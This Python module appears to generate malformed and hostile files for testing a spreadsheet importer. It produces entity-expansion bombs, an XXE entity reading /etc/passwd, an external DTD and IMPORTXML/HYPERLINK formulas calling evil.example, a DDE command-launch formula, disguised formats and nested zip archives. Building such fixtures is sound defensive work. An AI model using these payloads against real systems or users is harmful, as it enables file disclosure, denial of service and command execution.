"""More hostile files: entities that multiply, other formats under a table's name, lines without end, formulas."""

import io
import random
import zipfile
import zlib
from itertools import pairwise

import openpyxl

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
FORMULAS = (
    *("=1+1", '=HYPERLINK("http://evil.example","x")', "=cmd|'/c calc'!A0", "@SUM(1)", "+1+1", "-1+1", "\t=1+1"),
    *('=IMPORTXML("http://evil.example","//a")', "=" + "(" * 5000, "=A1" + "+A1" * 3000, "={1,2;3,4}", "=#REF!"),
)


def entities(chance: random.Random) -> bytes:
    """A workbook whose sheet or words have entities that multiply, name a file, or nest without end."""
    letters = "abcdefghij"[: chance.choice((3, 7, 10))]
    steps = [f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(letters)]
    billion = f'<!DOCTYPE x [<!ENTITY a "lol">{"".join(steps)}]>'
    head, word = chance.choice(
        (
            (billion, f"&{letters[-1]};"),
            (f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>', "&a;" * 5000),
            ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
            ('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>', "1"),
            ("", "<t>" * chance.choice((100, 20_000))),
            ("", "&#0;&#xFFFFFFFF;"),
        )
    )
    cell = f'<c r="A1" t="inlineStr"><is><t>{word}</t></is></c>'
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": _relations("xl/workbook.xml", "officeDocument"),
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATION}"><sheets><sheet name="S" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _relations("worksheets/sheet1.xml", "worksheet"),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{head}<worksheet xmlns="{MAIN}"><sheetData><row r="1">{cell}'
        "</row></sheetData></worksheet>",
    }
    return packed({name: text.encode() for name, text in parts.items()})


def markup(chance: random.Random) -> str:
    """XML, HTML or SVG under the name of a table."""
    deep = chance.choice((3, 1000, 200_000))
    return chance.choice(
        (
            "<?xml version='1.0'?>" + "<a>" * deep + "</a>" * deep,
            "<html><table>" + "<tr><td>Liège<td>2024<td>1" * min(deep, 3000),
            '<!DOCTYPE x [<!ENTITY a "b">]><x>' + "&a;" * deep,
            '<mes:GenericData xmlns:mes="x"><Obs TIME_PERIOD="2024" OBS_VALUE="1"/>' * min(deep, 2000),
        )
    )


def renamed(chance: random.Random) -> bytes:
    """Another format under the name of a workbook: a PDF, a picture, a program, an archive in an archive."""
    inner = zlib.compress(bytes(chance.choice((10, 5_000_000))))
    heads = (
        b"%PDF-1.7\n1 0 obj<</Length 9/Filter/FlateDecode>>stream\n" + inner + b"\nendstream endobj\n%%EOF",
        b"\x89PNG\r\n\x1a\n" + chance.randbytes(3000),
        b"\x7fELF\x02\x01\x01" + bytes(3000),
        b"MZ" + chance.randbytes(3000),
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + inner[2:],
        b"Rar!\x1a\x07\x01\x00" + chance.randbytes(300),
        b"SQLite format 3\x00" + bytes(4000),
    )
    nested = packed({f"{n}.zip": packed({"x.csv": b"a;b\n" * 300_000}) for n in range(chance.choice((1, 40)))})
    return chance.choice((*heads, nested))


def endless(chance: random.Random) -> str:
    """One line, or one cell, that does not end; or nothing but separators, quotes or line ends."""
    length = chance.choice((10_000, 1_000_000, 8_000_000))
    return chance.choice(
        (
            "x" * length,
            "City;Year;Value\nLiège;2024;" + "1" * length,
            'City;Year;Value\n"' + "Liège;2024;1\n" * (length // 13),
            ";" * length,
            "\n" * length,
            "\r" * length,
            '"' * length,
            "\0" * length,
            "City;Year;Value\n" + "Liège;2024;1;" * (length // 13),
        )
    )


def formulas(chance: random.Random) -> bytes:
    """A workbook, or a table, whose cells are formulas and commands."""
    rows = [["City", "Indicator", "Year", "Value"]]
    rows += [["Liège", "Air quality", "2024", chance.choice(FORMULAS)] for _ in range(chance.choice((1, 30)))]
    rows += [[chance.choice(FORMULAS) for _ in rows[0]] for _ in range(3)]
    if chance.random() < 0.5:
        return "\n".join(";".join(row) for row in rows).encode()
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)
    book.save(buffer)
    return buffer.getvalue()


def _relations(target: str, kind: str) -> str:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    relation = f'<Relationship Id="rId1" Type="{RELATION}/{kind}" Target="{target}"/>'
    return f'<Relationships xmlns="{space}">{relation}</Relationships>'


def packed(parts: dict[str, bytes]) -> bytes:
    """A ZIP file of these parts, by name: what a workbook is."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return buffer.getvalue()
